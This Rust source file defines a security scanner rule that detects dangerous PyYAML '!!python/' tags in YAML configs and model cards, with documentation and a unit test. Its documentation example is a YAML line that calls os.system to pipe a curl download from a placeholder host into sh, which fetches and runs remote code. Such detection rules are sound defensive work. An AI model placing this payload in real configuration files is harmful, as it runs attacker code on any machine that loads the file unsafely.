//! CFG001: a YAML document carries a PyYAML `!!python/…` tag.

use sentrascan_formats::config::ConfigView;
use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

pub static RULE: RuleMeta = RuleMeta {
    code: "CFG001",
    name: "yaml-python-tag",
    family: super::FAMILY,
    default_severity: Severity::Critical,
    category: Category::ArbitraryCodeExecution,
    scanner: "config",
    cwe: Some("CWE-502"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "A YAML document carries a PyYAML Python tag (`!!python/object/apply:`, `!!python/object/new:`, `!!python/name:`, `!!python/module:`): `yaml.load` with an unsafe loader imports and calls what it names.",
    remediation: "Remove the tag; load YAML with yaml.safe_load, which rejects it.",
    docs: r#"## What it does
Reports every node tagged `!!python/…` (written with the `!!` handle or as
`tag:yaml.org,2002:python/…`) in YAML files and model-card front matter.
`!!python/object/apply:` and `!!python/object/new:` call a callable;
`!!python/name:` and `!!python/module:` import one.

## Why is this bad?
`yaml.load(f, Loader=yaml.Loader)` or `UnsafeLoader` (and `yaml.load`
without a loader on PyYAML < 5.1) builds these objects while loading: the
file runs code the moment it is read, like a pickle. Configs loaded by
training scripts and NeMo-style archives are read this way by old tools.

## Example
```yaml
trainer: !!python/object/apply:os.system ["curl http://example.invalid | sh"]
```

## How to fix
Delete the tag; read configs with `yaml.safe_load` or OmegaConf.

## References
- https://pyyaml.org/wiki/PyYAMLDocumentation
- https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load(input)-Deprecation
- CWE-502: Deserialization of Untrusted Data
"#,
};

pub(crate) fn check(view: &ConfigView, location: &Location, out: &mut Vec<Finding>) {
    let mut found = Vec::new();
    for t in &view.tags {
        let Some(what) = t
            .tag
            .strip_prefix("!!python/")
            .or_else(|| t.tag.strip_prefix("tag:yaml.org,2002:python/"))
        else {
            continue;
        };
        let (kind, name) = what.split_once(':').unwrap_or((what, ""));
        let does = match kind {
            "object/apply" | "object/new" => "calls",
            "name" | "module" => "imports",
            _ => "constructs",
        };
        found.push(
            Finding::new(
                &RULE,
                location.clone(),
                format!("YAML tag `{}` at `{}` {does} `{name}` when loaded unsafely", t.tag, t.path),
            )
            .description(format!(
                "Line {}: the node at `{}` is tagged `{}`; PyYAML's unsafe loaders {does} `{name}` while reading the file.",
                t.line, t.path, t.tag
            ))
            .evidence("tag", t.tag.as_str())
            .evidence("path", t.path.as_str())
            .evidence("line", t.line),
        );
    }
    super::capped(&RULE, found, location, out);
}

#[cfg(test)]
mod tests {
    use super::*;
    use sentrascan_formats::Limits;
    use sentrascan_formats::config::{ConfigKind, parse};

    #[test]
    fn apply_tag() {
        let v = parse(
            ConfigKind::Yaml,
            b"a: !!python/object/apply:os.system [\"echo x\"]\nb: !custom 1\n",
            &Limits::default(),
        );
        let mut out = Vec::new();
        check(&v, &Location::file("c.yaml"), &mut out);
        assert_eq!(out.len(), 1);
        assert!(out[0].title.contains("os.system"));
    }
}
